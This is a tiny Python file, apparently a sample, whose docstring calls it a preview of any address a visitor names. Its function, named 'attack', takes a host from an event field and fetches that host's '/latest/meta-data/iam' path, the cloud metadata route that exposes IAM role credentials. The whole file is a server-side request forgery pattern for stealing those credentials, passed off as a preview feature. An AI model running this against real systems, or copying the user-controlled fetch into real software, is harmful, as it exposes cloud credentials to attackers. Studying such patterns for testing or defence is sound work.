"""A preview of any address a visitor names."""

import urllib.request


def attack(event):
    return (
        urllib.request.urlopen("http://%s/latest/meta-data/iam" % event["metadata"], timeout=5)
        .read()
        .decode()
    )
